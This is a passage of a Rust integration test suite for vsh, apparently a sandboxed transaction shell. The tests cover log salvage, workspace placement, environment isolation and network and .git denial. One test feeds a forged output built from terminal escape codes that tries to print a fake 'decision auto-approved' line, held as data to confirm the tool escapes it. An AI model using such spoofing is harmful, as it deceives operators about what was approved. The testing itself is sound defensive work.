    assert_eq!(vsh(&["reject", &id, "--workspace", ws], None).status.code(), Some(0));
    let mut log = std::fs::read(dir.path().join(".vsh/data/txlog")).unwrap();
    let last = log.len() - 5;
    log[last] ^= 0x40;
    std::fs::write(dir.path().join(".vsh/data/txlog"), &log).unwrap();
    let stuck = vsh(&["pending", "--workspace", ws], None);
    assert_eq!(stuck.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&stuck.stderr).contains("`vsh recover --salvage-log`"), "{stuck:?}");
    let salvaged = vsh(&["recover", "--salvage-log", "--json", "--workspace", ws], None);
    let said = String::from_utf8_lossy(&salvaged.stderr);
    assert_eq!(salvaged.status.code(), Some(0), "{said}");
    assert!(said.contains(&format!("damaged at byte {}: kept the 1 record before it", whole.len())), "{said}");
    assert!(said.contains(&format!("vsh:   {}  a lost change may have", &id[..12])), "{said}");
    let report: serde_json::Value = serde_json::from_slice(&salvaged.stdout).unwrap();
    assert_eq!(report["salvage"]["voided"][0], id.as_str(), "{report}");
    assert_eq!(report["salvage"]["kept_as"], "txlog.damaged.1", "{report}");
    assert_eq!(std::fs::read(dir.path().join(".vsh/data/txlog.damaged.1")).unwrap(), log);
    // The record as it was before the lost change, voided: it may have been
    // rejected (it was) or committed since; the workspace holds none of its
    // change, so it failed, and can never be committed now.
    assert_eq!(report["settled_failed"][0], id.as_str(), "{report}");
    let logged = String::from_utf8_lossy(&vsh(&["log", "--workspace", ws], None).stdout).into_owned();
    assert!(logged.contains(&id[..12]) && logged.contains("failed"), "{logged}");
    assert_eq!(vsh(&["approve", &id, "--workspace", ws], None).status.code(), Some(1));
    assert!(dir.path().join("a.txt").exists());
    // A damaged header verifies nothing: there is nothing to salvage, and the
    // advice says what to do instead.
    let mut log = std::fs::read(dir.path().join(".vsh/data/txlog")).unwrap();
    log[60] ^= 1;
    std::fs::write(dir.path().join(".vsh/data/txlog"), &log).unwrap();
    let headless = vsh(&["recover", "--salvage-log", "--workspace", ws], None);
    let said = String::from_utf8_lossy(&headless.stderr);
    assert_eq!(headless.status.code(), Some(1), "{said}");
    assert!(said.contains("the log's header is damaged") && !said.contains("--salvage-log` keeps"), "{said}");
}

/// A commit whose log lost how it ended (the damaged frames were its last)
/// is settled by what the workspace holds: every change it made there, it
/// committed; none of them, it failed; anything else stays for the operator.
#[test]
fn a_salvaged_commit_is_settled_by_what_the_workspace_holds() {
    for (after_commit, settled) in [(None, Some("committed")), (Some("edited by hand\n"), None)] {
        let dir = tempfile::tempdir().unwrap();
        let ws = dir.path().to_str().unwrap();
        write(dir.path(), "a.txt", "a\n");
        let create = "from pathlib import Path\nPath('b.txt').write_text('b')";
        let committed = vsh(&["run", "--mode", "auto", "--workspace", ws, "-"], Some(create));
        assert_eq!(committed.status.code(), Some(0));
        let id = id_of(&committed);
        if let Some(text) = after_commit {
            write(dir.path(), "b.txt", text);
        }
        // Its last frames lost: the record as it was while it committed.
        let mut log = std::fs::read(dir.path().join(".vsh/data/txlog")).unwrap();
        let last = log.len() - 5;
        log[last] ^= 0x40;
        std::fs::write(dir.path().join(".vsh/data/txlog"), &log).unwrap();
        let salvaged = vsh(&["recover", "--salvage-log", "--json", "--workspace", ws], None);
        let report: serde_json::Value = serde_json::from_slice(&salvaged.stdout).unwrap();
        let state = valid_document(&vsh(&["show", "--json", &id, "--workspace", ws], None))["record"]["state"].clone();
        if let Some(done) = settled {
            assert_eq!(report["settled_committed"][0], id.as_str(), "{report}");
            assert!(report["unresolved"].as_array().unwrap().is_empty(), "{report}");
            assert_eq!(state, done);
            assert_eq!(salvaged.status.code(), Some(0));
        } else {
            assert!(report["settled_committed"].as_array().unwrap().is_empty(), "{report}");
            assert_eq!(report["unresolved"][0]["transaction"], id.as_str(), "{report}");
            assert_eq!(state, "recovery-required");
        }
    }
}

/// Work that was approved and committed in frames the damage took (its
/// kept record still pending) is settled as committed, not voided: the
/// workspace holds its change.
#[test]
fn salvaged_work_whose_approval_and_commit_were_lost_is_settled_as_committed() {
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().to_str().unwrap();
    write(dir.path(), "a.txt", "a\n");
    let delete = "from pathlib import Path\nPath('a.txt').unlink()";
    let pending = vsh(&["run", "--workspace", ws, "-"], Some(delete));
    let id = id_of(&pending);
    let kept = std::fs::read(dir.path().join(".vsh/data/txlog")).unwrap().len();
    assert_eq!(vsh(&["approve", &id, "--workspace", ws], None).status.code(), Some(0));
    assert_eq!(vsh(&["commit", &id, "--workspace", ws], None).status.code(), Some(0));
    assert!(!dir.path().join("a.txt").exists());
    // The first frame after the pending record is damaged: approval and commit lost.
    let mut log = std::fs::read(dir.path().join(".vsh/data/txlog")).unwrap();
    log[kept + 5] ^= 0x40;
    std::fs::write(dir.path().join(".vsh/data/txlog"), &log).unwrap();
    let report = valid_document(&vsh(&["recover", "--salvage-log", "--json", "--workspace", ws], None));
    assert_eq!(report["settled_committed"][0], id.as_str(), "{report}");
    let shown = valid_document(&vsh(&["show", "--json", &id, "--workspace", ws], None));
    assert_eq!(shown["record"]["state"], "committed", "{shown}");
}

#[test]
fn no_workspace_is_made_in_a_home_directory_the_root_or_a_shared_temporary_directory() {
    let home = tempfile::tempdir().unwrap();
    std::fs::create_dir(home.path().join("project")).unwrap();
    let in_dir = |dir: &Path, args: &[&str], home_var: &Path| {
        Command::new(env!("CARGO_BIN_EXE_vsh"))
            .args(args)
            .current_dir(dir)
            .env_clear()
            .env("HOME", home_var)
            .stdin(std::process::Stdio::null())
            .output()
            .unwrap()
    };
    // By default (the current directory), or named outright: refused, nothing made.
    for (dir, args) in [
        (home.path().to_path_buf(), vec!["run", "-"]),
        (home.path().join("project"), vec!["run", "--workspace", "..", "-"]),
        (std::path::PathBuf::from("/"), vec!["run", "-"]),
        (std::env::temp_dir(), vec!["run", "-"]),
    ] {
        let refused = in_dir(&dir, &args, home.path());
        let stderr = String::from_utf8_lossy(&refused.stderr);
        assert_eq!(refused.status.code(), Some(1), "{}: {stderr}", dir.display());
        assert!(stderr.contains(", not a project: vsh makes no workspace there"), "{stderr}");
        assert!(!dir.join(".vsh").exists(), "{}", dir.display());
        // Nor does a command that needs one there suggest making one (ux49 L6).
        if args.len() == 2 {
            let pending = in_dir(&dir, &["pending"], home.path());
            let stderr = String::from_utf8_lossy(&pending.stderr);
            assert!(stderr.contains("run vsh in a project's directory") && !stderr.contains("vsh init"), "{stderr}");
        }
    }
    assert!(!home.path().join(".vsh").exists());
    // A project below is one, and then the home above it is never found.
    let made = in_dir(&home.path().join("project"), &["run", "-"], home.path());
    assert_eq!(made.status.code(), Some(0), "{}", String::from_utf8_lossy(&made.stderr));
    assert!(home.path().join("project/.vsh").is_dir());
    // Another user's .vsh above is never found (as another user's .git is
    // not): it would take over every run below it.
    if is_root() {
        let shared = home.path().join("shared");
        std::fs::create_dir_all(shared.join(".vsh/data")).unwrap();
        std::fs::create_dir_all(shared.join("mine")).unwrap();
        std::os::unix::fs::chown(shared.join(".vsh"), Some(54_321), Some(54_321)).unwrap();
        let ran = in_dir(&shared.join("mine"), &["run", "-"], home.path());
        assert_eq!(ran.status.code(), Some(0), "{}", String::from_utf8_lossy(&ran.stderr));
        assert!(shared.join("mine/.vsh").is_dir(), "{}", String::from_utf8_lossy(&ran.stderr));
        // Nor used where it stands, found or named: its data is not ours.
        for args in [&["run", "-"][..], &["run", "--workspace", ".", "-"], &["pending"]] {
            let refused = in_dir(&shared, args, home.path());
            let said = String::from_utf8_lossy(&refused.stderr);
            assert_eq!(refused.status.code(), Some(1), "{args:?}: {said}");
            assert!(said.contains("belongs to another user (uid 54321)"), "{args:?}: {said}");
        }
        assert_eq!(std::fs::read_dir(shared.join(".vsh/data")).unwrap().count(), 0, "nothing written there");
        std::fs::remove_dir_all(&shared).unwrap();
    }
    // A directory every user may write is no project either.
    let open = home.path().join("open");
    std::fs::create_dir(&open).unwrap();
    std::fs::set_permissions(&open, std::os::unix::fs::PermissionsExt::from_mode(0o1777)).unwrap();
    let refused = in_dir(&open, &["run", "-"], home.path());
    assert_eq!(refused.status.code(), Some(1));
    assert!(!open.join(".vsh").exists());
    // A new workspace that fails to open is not left half made.
    let project = home.path().join("fresh");
    std::fs::create_dir(&project).unwrap();
    let broken = Command::new(env!("CARGO_BIN_EXE_vsh"))
        .args(["run", "-"])
        .current_dir(&project)
        .env_clear()
        .env("HOME", home.path())
        .env("VSH_AUTHORITY_KEY", "/dev/null/key")
        .stdin(std::process::Stdio::null())
        .output()
        .unwrap();
    assert_eq!(broken.status.code(), Some(1), "{}", String::from_utf8_lossy(&broken.stderr));
    assert!(!project.join(".vsh").exists(), "{}", String::from_utf8_lossy(&broken.stderr));
    // One made by an older vsh: the doctor says to remove it.
    std::fs::create_dir_all(home.path().join(".vsh/data")).unwrap();
    let doctor = in_dir(home.path(), &["doctor"], home.path());
    let said = String::from_utf8_lossy(&doctor.stdout);
    assert!(
        said.contains(&format!("remove {} if vsh made it by mistake", home.path().join(".vsh").display())),
        "{said}"
    );
    std::fs::remove_dir_all(home.path().join(".vsh")).unwrap();
    // A server for a directory that does not exist fails at once, to the operator.
    let missing = home.path().join("missing");
    let serve = in_dir(home.path(), &["serve", "--workspace", missing.to_str().unwrap()], home.path());
    assert_eq!(serve.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&serve.stderr).contains("missing: no such directory"), "{serve:?}");
}

#[test]
fn failures_a_new_user_meets_say_what_to_do() {
    if !fuse_available() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "a.txt", "a\n");
    let ws = dir.path().to_str().unwrap();
    let stderr = |output: &Output| String::from_utf8_lossy(&output.stderr).into_owned();
    // A preview that changes nothing says it is not kept, and looking it up says why it is not found.
    let quiet = vsh(&["exec", "--workspace", ws, "--", "true"], None);
    assert!(String::from_utf8_lossy(&quiet.stdout).contains("not kept"), "{quiet:?}");
    let receipt: serde_json::Value =
        serde_json::from_slice(&vsh(&["exec", "--workspace", ws, "--json", "--", "true"], None).stdout).unwrap();
    let id = receipt["transaction"].as_str().unwrap().to_owned();
    let shown = vsh(&["show", &id, "--workspace", ws], None);
    assert_eq!(shown.status.code(), Some(1));
    assert!(stderr(&shown).contains("a preview that changes nothing is not kept"), "{}", stderr(&shown));
    // And where it was looked for (ux52: from the wrong workspace).
    let searched = format!("looked for in the workspace at {}", std::fs::canonicalize(ws).unwrap().display());
    assert!(stderr(&shown).contains(&searched), "{}", stderr(&shown));
    // A command that wanted the network is told it has none unless given it.
    let offline = "echo 'curl: (6) Could not resolve host: example.com' >&2; exit 6";
    let ran = vsh(&["exec", "--workspace", ws, "--", "sh", "-c", offline], None);
    assert_eq!(ran.status.code(), Some(1), "{}", stderr(&ran));
    assert!(stderr(&ran).contains("`--allow-network loopback|all`"), "{}", stderr(&ran));
    // What a failed command printed is escaped like any program text: it can
    // never draw vsh's lines or drive the terminal.
    let forged = "printf 'o\\033[2J\\n'; printf 'e\\r\\033[2Kdecision auto-approved\\n' >&2; exit 2";
    let ran = vsh(&["exec", "--workspace", ws, "--", "sh", "-c", forged], None);
    assert!(!stderr(&ran).contains(['\u{1b}', '\r']), "{}", stderr(&ran));
    assert!(stderr(&ran).contains("vsh: program stderr | e\\r"), "{}", stderr(&ran));
    // A program that imports subprocess is told about vsh_exec.
    let spawn = vsh(&["run", "--workspace", ws, "-"], Some("import subprocess\nsubprocess.run(['ls'])"));
    assert!(stderr(&spawn).contains("it calls vsh_exec(argv) instead (a run given --commands"), "{}", stderr(&spawn));
    let system = vsh(&["run", "--workspace", ws, "-"], Some("import os\nos.system('ls')"));
    assert!(stderr(&system).contains("it calls vsh_exec(argv) instead (a run given --commands"), "{}", stderr(&system));
    let fine = vsh(&["exec", "--workspace", ws, "--", "sh", "-c", "echo broken >&2; exit 6"], None);
    assert!(!stderr(&fine).contains("--allow-network"), "only when it looks like it: {}", stderr(&fine));
    // A Bash file that calls an installed program, run in the bounded interpreter.
    let script = dir.path().join("tool.sh");
    std::fs::write(&script, "python3 -c 'print(1)'\n").unwrap();
    let bounded = vsh(&["run", "--workspace", ws, script.to_str().unwrap()], None);
    assert!(stderr(&bounded).contains("`vsh run --confined FILE`"), "{}", stderr(&bounded));
    // Input redirected to vsh is not the command's: vsh says so, and how to give it.
    let patch = dir.path().join("fix.diff");
    std::fs::write(&patch, "--- a/a.txt\n").unwrap();
    // `vsh exec -- COMMAND` with `stdin` as its standard input.
    let exec_with = |command: &str, stdin: std::process::Stdio| {
        Command::new(env!("CARGO_BIN_EXE_vsh"))
            .args(["exec", "--workspace", ws, "--", command])
            .env_clear()
            .stdin(stdin)
            .output()
            .unwrap()
    };
    let redirected = exec_with("cat", std::fs::File::open(&patch).unwrap().into());
    assert!(stderr(&redirected).contains("give it with `--stdin -`"), "{}", stderr(&redirected));
    // -q prints warnings: this one too (ux81 M2: a script's `vsh exec -q --
    // patch -p1 < fix.diff` exited 0 without a word, having applied nothing).
    let quietly = Command::new(env!("CARGO_BIN_EXE_vsh"))
        .args(["exec", "-q", "--workspace", ws, "--", "cat"])
        .env_clear()
        .stdin(std::fs::File::open(&patch).unwrap())
        .output()
        .unwrap();
    assert!(stderr(&quietly).contains("give it with `--stdin -`"), "{}", stderr(&quietly));
    // And in the receipt's JSON (ux82 L10).
    let json = Command::new(env!("CARGO_BIN_EXE_vsh"))
        .args(["exec", "--json", "--workspace", ws, "--", "cat"])
        .env_clear()
        .stdin(std::fs::File::open(&patch).unwrap())
        .output()
        .unwrap();
    let receipt: serde_json::Value = serde_json::from_slice(&json.stdout).unwrap();
    assert!(receipt["warnings"].to_string().contains("the command reads nothing"), "{receipt}");
    // A pipe with bytes already waiting in it is the same mistake.
    let (reader, mut writer) = std::io::pipe().unwrap();
    std::io::Write::write_all(&mut writer, b"piped\n").unwrap();
    drop(writer);
    let piped = exec_with("true", reader.into());
    assert!(stderr(&piped).contains("give it with `--stdin -`"), "{}", stderr(&piped));
    // A file already read to its end holds nothing for the command.
    let mut consumed = std::fs::File::open(&patch).unwrap();
    std::io::Seek::seek(&mut consumed, std::io::SeekFrom::End(0)).unwrap();
    let at_end = exec_with("true", consumed.into());
    assert!(!stderr(&at_end).contains("--stdin -"), "{}", stderr(&at_end));
    let given = vsh(&["exec", "--workspace", ws, "--stdin", patch.to_str().unwrap(), "--", "cat"], None);
    assert!(!stderr(&given).contains("--stdin -"), "{}", stderr(&given));
    assert!(!stderr(&quiet).contains("--stdin -"), "nothing waiting: {}", stderr(&quiet));
    // A Monty program that runs a command, without --commands.
    let program = "vsh_exec(['true'])";
    let plain = vsh(&["run", "--workspace", ws, "-"], Some(program));
    assert!(stderr(&plain).contains("vsh run --commands"), "{}", stderr(&plain));
}

#[test]
fn exec_raw_prints_the_commands_own_output_and_the_outcome_in_one_line() {
    if !fuse_available() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().to_str().unwrap();
    assert_eq!(vsh(&["init", "-q", "--workspace", ws], None).status.code(), Some(0));
    let script = "printf 'diff\\000bytes'; echo warned >&2; echo x > x.txt";
    let ran = vsh(&["exec", "--raw", "--workspace", ws, "--", "sh", "-c", script], None);
    assert_eq!(ran.status.code(), Some(0), "{ran:?}");
    assert_eq!(ran.stdout, b"diff\0bytes", "exactly what it printed, nothing of the receipt");
    let stderr = String::from_utf8_lossy(&ran.stderr);
    assert!(stderr.starts_with("warned\n"), "{stderr}");
    assert!(stderr.contains("is auto-approved, 1 changed path; next: vsh commit "), "{stderr}");
    // Quiet: the output alone.
    let quiet = vsh(&["-q", "exec", "--raw", "--workspace", ws, "--", "sh", "-c", "echo only"], None);
    assert_eq!((quiet.stdout.as_slice(), quiet.stderr.as_slice()), (&b"only\n"[..], &b""[..]), "{quiet:?}");
    // It is not a JSON document.
    let both = vsh(&["exec", "--raw", "--json", "--workspace", ws, "--", "true"], None);
    assert_eq!(both.status.code(), Some(2));
    // A failed command's own streams too, what happened, and its own
    // status as vsh's (so `vsh exec --raw -- test ...` branches as test
    // does); an accepted failure says its status and exits with it too.
    let failing = "echo out; echo err >&2; exit 3";
    let failed = vsh(&["exec", "--raw", "--workspace", ws, "--", "sh", "-c", failing], None);
    assert_eq!((failed.status.code(), failed.stdout.as_slice()), (Some(3), &b"out\n"[..]), "{failed:?}");
    let stderr = String::from_utf8_lossy(&failed.stderr);
    assert!(stderr.starts_with("err\n") && stderr.contains("failed (exit status 3)"), "{stderr}");
    // And what to do about it, as without --raw (ux79 M1).
    let offline = "echo 'curl: (6) Could not resolve host: example.com' >&2; exit 6";
    let failed = vsh(&["exec", "--raw", "--workspace", ws, "--", "sh", "-c", offline], None);
    let stderr = String::from_utf8_lossy(&failed.stderr);
    assert!(stderr.contains("vsh: if it needed the network"), "{stderr}");
    let accepted = vsh(&["exec", "--raw", "--accept-failure", "--workspace", ws, "--", "sh", "-c", failing], None);
    assert!(String::from_utf8_lossy(&accepted.stderr).contains(", the program exited 3"), "{accepted:?}");
    assert_eq!(accepted.status.code(), Some(3), "{accepted:?}");
    // Denied work says why in its one line (git may not write .git).
    let denied = vsh(
        &["exec", "--raw", "--workspace", ws, "--", "sh", "-c", "echo x > .git-not; mkdir -p .git; echo y > .git/x"],
        None,
    );
    let said = String::from_utf8_lossy(&denied.stderr);
    assert_eq!(denied.status.code(), Some(5), "{said}");
    assert!(said.contains("is denied (protected-access-attempt): ") && said.contains(".git"), "{said}");
    // Output vsh had to cut is never passed off as whole.
    let long = "seq 1 200000";
    let cut = vsh(&["exec", "--raw", "--workspace", ws, "--", "sh", "-c", long], None);
    assert_eq!(cut.status.code(), Some(1), "{:?}", String::from_utf8_lossy(&cut.stderr));
    assert!(String::from_utf8_lossy(&cut.stderr).contains("raise --max-output"), "{cut:?}");
    let whole = vsh(&["exec", "--raw", "--max-output", "8MiB", "--workspace", ws, "--", "sh", "-c", long], None);
    assert_eq!(whole.status.code(), Some(0));
    let expected = (1..=200_000).fold(String::new(), |mut text, n| {
        use std::fmt::Write as _;
        let _ = writeln!(text, "{n}");
        text
    });
    assert!(whole.stdout == expected.as_bytes(), "{} bytes", whole.stdout.len());
    // In a receipt too, the cut is said; and a long output shows its head
    // and tail, then what to do next again (ux58 4: 78,000 lines).
    let receipt = vsh(&["exec", "--workspace", ws, "--", "sh", "-c", &format!("{long}; touch made")], None);
    let (said, printed) = (String::from_utf8_lossy(&receipt.stderr), String::from_utf8_lossy(&receipt.stdout));
    assert!(said.contains("warning: the program printed more than --max-output allows"), "{said}");
    assert!(printed.lines().count() < 250, "{} lines", printed.lines().count());
    assert!(printed.contains("  | 1\n") && printed.contains("  | 40\n") && !printed.contains("  | 41\n"), "{printed}");
    assert!(printed.contains("lines not shown here: --json holds all vsh kept of stdout"), "{printed}");
    assert!(printed.trim_end().lines().last().unwrap().starts_with("next         vsh commit"), "{printed}");
    let json = vsh(&["exec", "--json", "--max-output", "8MiB", "--workspace", ws, "--", "sh", "-c", long], None);
    let document: serde_json::Value = serde_json::from_slice(&json.stdout).unwrap();
    assert_eq!(document["stdout"].as_str().unwrap(), expected, "--json holds it whole");
    assert!(!document["warnings"].to_string().contains("--max-output"), "{}", document["warnings"]);
    // A document of output cut at --max-output says so (ux59 3: MCP did not).
    let cut_json = vsh(&["exec", "--json", "--workspace", ws, "--", "sh", "-c", long], None);
    let document: serde_json::Value = serde_json::from_slice(&cut_json.stdout).unwrap();
    assert!(document["warnings"].to_string().contains("more than --max-output allows"), "{}", document["warnings"]);
}

#[test]
fn commands_get_only_the_variables_granted() {
    if !fuse_available() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "a.txt", "a\n");
    let ws = dir.path().to_str().unwrap();
    let exec = |extra: &[&str]| {
        let mut command = Command::new(env!("CARGO_BIN_EXE_vsh"));
        command.env_clear().env("VSH_TEST_TOKEN", "secret-token").env("GRANTED", "from-vsh");
        command.args(["exec", "--workspace", ws, "--json"]).args(extra).args(["--", "env"]);
        command.output().unwrap()
    };
    let plain = exec(&[]);
    assert_eq!(plain.status.code(), Some(0), "{}", String::from_utf8_lossy(&plain.stderr));
    let receipt: serde_json::Value = serde_json::from_slice(&plain.stdout).unwrap();
    let mut names: Vec<&str> =
        receipt["stdout"].as_str().unwrap().lines().map(|line| line.split('=').next().unwrap()).collect();
    names.sort_unstable();
    assert_eq!(
        names,
        // Python's bytecode goes to its scratch directory (a default scratch
        // name); without a network, package managers do not retry.
        [
            "GIT_CONFIG_NOSYSTEM",
            "GIT_OPTIONAL_LOCKS",
            "HOME",
            "LANG",
            "PATH",
            "PIP_RETRIES",
            "PYTEST_ADDOPTS",
            "PYTHONPYCACHEPREFIX",
            "npm_config_fetch_retries"
        ],
        "nothing of vsh's own environment: {receipt}"
    );
    let granted = exec(&["--env", "COLOR=blue", "--pass-env", "GRANTED", "--env", "PYTEST_ADDOPTS=-x"]);
    assert_eq!(granted.status.code(), Some(0), "{}", String::from_utf8_lossy(&granted.stderr));
    let granted: serde_json::Value = serde_json::from_slice(&granted.stdout).unwrap();
    let stdout = granted["stdout"].as_str().unwrap();
    assert!(stdout.contains("COLOR=blue\n") && stdout.contains("GRANTED=from-vsh\n"), "{stdout}");
    // pytest's options granted are kept, its cache's place after them.
    assert!(stdout.contains("PYTEST_ADDOPTS=-x -o cache_dir="), "{stdout}");
    assert!(!stdout.contains("secret-token"), "{stdout}");
    // Mistakes in the command line are usage errors, and nothing runs.
    let missing = exec(&["--pass-env", "NOT_SET_ANYWHERE"]);
    assert_eq!(missing.status.code(), Some(2), "{}", String::from_utf8_lossy(&missing.stderr));
    assert!(String::from_utf8_lossy(&missing.stderr).contains("NOT_SET_ANYWHERE"));
    for bad in [["--env", "BAD NAME=1"], ["--env", "1X=1"], ["--env", "=1"], ["--pass-env", "A-B"]] {
        let refused = exec(&bad);
        let stderr = String::from_utf8_lossy(&refused.stderr);
        assert_eq!(refused.status.code(), Some(2), "{bad:?}: {stderr}");
        assert!(stderr.contains("is not a variable name"), "{bad:?}: {stderr}");
    }
}

#[test]
fn run_confined_runs_a_bash_file_in_real_bash() {
    if !fuse_available() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "a.txt", "one\n");
    let ws = dir.path().to_str().unwrap();
    let script = dir.path().join("edit.sh");
    // `declare -A` is real bash only.
    std::fs::write(&script, "declare -A seen=([one]=1)\necho two >> a.txt\necho ${#seen[@]}\n").unwrap();
    let script = script.to_str().unwrap();
    let ran = vsh(&["run", "--workspace", ws, "--confined", "--mode", "auto", "--json", script], None);
    assert_eq!(ran.status.code(), Some(0), "{}", String::from_utf8_lossy(&ran.stderr));
    let receipt: serde_json::Value = serde_json::from_slice(&ran.stdout).unwrap();
    assert_eq!(receipt["profile"], "vsh-bash-confined-v1", "{receipt}");
    assert_eq!(receipt["stdout"], "1\n");
    assert_eq!(receipt["state"], "committed");
    assert_eq!(std::fs::read_to_string(dir.path().join("a.txt")).unwrap(), "one\ntwo\n");
    let monty = dir.path().join("p.py");
    std::fs::write(&monty, "1\n").unwrap();
    let refused = vsh(&["run", "--workspace", ws, "--confined", monty.to_str().unwrap()], None);
    assert_eq!(refused.status.code(), Some(2), "--confined is for Bash");
}

/// The sysroot of the toolchain running these tests.
fn sysroot() -> String {
    let rustc = std::env::var_os("RUSTC").unwrap_or_else(|| "rustc".into());
    let out = Command::new(rustc).args(["--print", "sysroot"]).output().expect("rustc runs");
    String::from_utf8(out.stdout).unwrap().trim().to_owned()
}

#[test]
fn exec_cargo_fmt_shows_the_formatters_diff_for_review_and_cargo_test_keeps_target_as_scratch() {
    if !fuse_available() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "Cargo.toml", "[package]\nname = \"tidy\"\nversion = \"0.1.0\"\nedition = \"2021\"\n");
    write(
        dir.path(),
        "Cargo.lock",
        "# This file is automatically @generated by Cargo.\n# It is not intended for manual editing.\nversion = 4\n\n[[package]]\nname = \"tidy\"\nversion = \"0.1.0\"\n",
    );
    write(dir.path(), "src/lib.rs", "pub fn one()->i32{1}\n#[test] fn works(){assert_eq!(one(),1);}\n");
    let ws = dir.path().to_str().unwrap();
    let sysroot = sysroot();
    let path = format!("PATH={sysroot}/bin:/usr/bin:/bin");
    let exec = |mode: &str, argv: &[&str]| {
        let mut args = vec!["exec", "--workspace", ws, "--json", "--mode", mode, "--tool", &sysroot, "--env", &path];
        args.push("--");
        args.extend_from_slice(argv);
        vsh(&args, None)
    };
    // cargo fmt: the formatter's change, previewed for review, nothing written.
    let fmt = exec("preview", &["cargo", "fmt"]);
    assert_eq!(fmt.status.code(), Some(0), "{}", String::from_utf8_lossy(&fmt.stderr));
    let receipt: serde_json::Value = serde_json::from_slice(&fmt.stdout).unwrap();
    assert_eq!(receipt["changed_paths"], 1, "{receipt}");
    assert_eq!(
        std::fs::read_to_string(dir.path().join("src/lib.rs")).unwrap(),
        "pub fn one()->i32{1}\n#[test] fn works(){assert_eq!(one(),1);}\n"
    );
    let shown = vsh(&["show", receipt["transaction"].as_str().unwrap(), "--workspace", ws], None);
    assert!(
        String::from_utf8_lossy(&shown.stdout).contains("+pub fn one() -> i32 {"),
        "{}",
        String::from_utf8_lossy(&shown.stdout)
    );
    let committed = vsh(&["commit", receipt["transaction"].as_str().unwrap(), "--workspace", ws], None);
    assert_eq!(committed.status.code(), Some(0), "{}", String::from_utf8_lossy(&committed.stderr));
    assert!(std::fs::read_to_string(dir.path().join("src/lib.rs")).unwrap().starts_with("pub fn one() -> i32 {\n"));
    // cargo test: passes, changes nothing, and its build stays in the scratch target/.
    let test = exec("auto", &["cargo", "test", "--offline", "-q"]);
    assert_eq!(test.status.code(), Some(0), "{}", String::from_utf8_lossy(&test.stdout));
    let receipt: serde_json::Value = serde_json::from_slice(&test.stdout).unwrap();
    assert_eq!(receipt["changed_paths"], 0, "target/ is scratch: {receipt}");
    assert!(!dir.path().join("target").exists(), "the workspace never gets a target/");
    assert!(dir.path().join(".vsh/data/scratch/target/debug").is_dir(), "the build is kept for the next run");
}

#[test]
fn a_failing_command_commits_only_when_its_failure_is_accepted() {
    if !fuse_available() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "a.txt", "a\n");
    let ws = dir.path().to_str().unwrap();
    let script = "echo report > report.txt; echo 2 tests failed; exit 3";
    let refused = vsh(&["exec", "--workspace", ws, "--mode", "auto", "--", "sh", "-c", script], None);
    assert_eq!(refused.status.code(), Some(1), "{}", String::from_utf8_lossy(&refused.stderr));
    assert!(!dir.path().join("report.txt").exists());
    let accepted = vsh(
        &["exec", "--workspace", ws, "--mode", "auto", "--accept-failure", "--json", "--", "sh", "-c", script],
        None,
    );
    assert_eq!(accepted.status.code(), Some(0), "{}", String::from_utf8_lossy(&accepted.stderr));
    let receipt: serde_json::Value = serde_json::from_slice(&accepted.stdout).unwrap();
    assert_eq!(receipt["exit_code"], 3, "the status is recorded: {receipt}");
    assert_eq!(receipt["stdout"], "2 tests failed\n");
    assert_eq!(receipt["state"], "committed", "{receipt}");
    assert_eq!(std::fs::read_to_string(dir.path().join("report.txt")).unwrap(), "report\n");
    let monty = vsh(&["run", "--workspace", ws, "--accept-failure", "-"], Some("1"));
    assert_eq!(monty.status.code(), Some(2), "--accept-failure is not for Monty");
}

#[test]
fn exec_allow_unix_sockets_lets_a_command_serve_on_a_unix_socket_of_its_own() {
    if !fuse_available() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "a.txt", "a\n");
    let ws = dir.path().to_str().unwrap();
    let script = "import socket\ns = socket.socket(socket.AF_UNIX); s.bind('/tmp/own.sock'); s.listen(1)\n\
                  c = socket.socket(socket.AF_UNIX); c.connect('/tmp/own.sock'); a, _ = s.accept(); c.sendall(b'ping'); print(a.recv(4).decode())";
    let plain = vsh(&["exec", "--workspace", ws, "--json", "--", "python3", "-c", script], None);
    assert_eq!(plain.status.code(), Some(1), "no unix socket by default: {}", String::from_utf8_lossy(&plain.stdout));
    let allowed =
        vsh(&["exec", "--workspace", ws, "--json", "--allow-unix-sockets", "--", "python3", "-c", script], None);
    assert_eq!(allowed.status.code(), Some(0), "{}", String::from_utf8_lossy(&allowed.stderr));
    let receipt: serde_json::Value = serde_json::from_slice(&allowed.stdout).unwrap();
    assert_eq!(receipt["stdout"], "ping\n", "{receipt}");
    // Where Landlock does not govern connecting to socket files, vsh says
    // the grant reaches every socket the command can name.
    let governed = vsh::lower::vsh_sandbox::probe().landlock_abi.is_some_and(|abi| abi >= 9);
    let warned = String::from_utf8_lossy(&allowed.stderr).contains("a host daemon's included");
    assert_eq!(warned, !governed, "{}", String::from_utf8_lossy(&allowed.stderr));
    assert!(!String::from_utf8_lossy(&plain.stderr).contains("a host daemon's included"));
}

#[test]
fn exec_allow_network_loopback_gives_a_private_loopback() {
    if !fuse_available() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), "a.txt", "a\n");
    let ws = dir.path().to_str().unwrap();
    let script = "import socket\ns = socket.socket(); s.bind(('127.0.0.1', 0)); s.listen(1)\nc = socket.create_connection(s.getsockname()); a, _ = s.accept(); c.sendall(b'ping'); print(a.recv(4).decode())";
    let plain = vsh(&["exec", "--workspace", ws, "--json", "--", "python3", "-c", script], None);
    assert_eq!(plain.status.code(), Some(1), "no network by default: {}", String::from_utf8_lossy(&plain.stderr));
    let looped =
        vsh(&["exec", "--workspace", ws, "--json", "--allow-network", "loopback", "--", "python3", "-c", script], None);
    assert_eq!(looped.status.code(), Some(0), "{}", String::from_utf8_lossy(&looped.stderr));
    let receipt: serde_json::Value = serde_json::from_slice(&looped.stdout).unwrap();
    assert_eq!(receipt["stdout"], "ping\n");
    // Python starts cleanly (its site configuration in /etc is readable).
    assert_eq!(receipt["stderr"], "", "{receipt}");
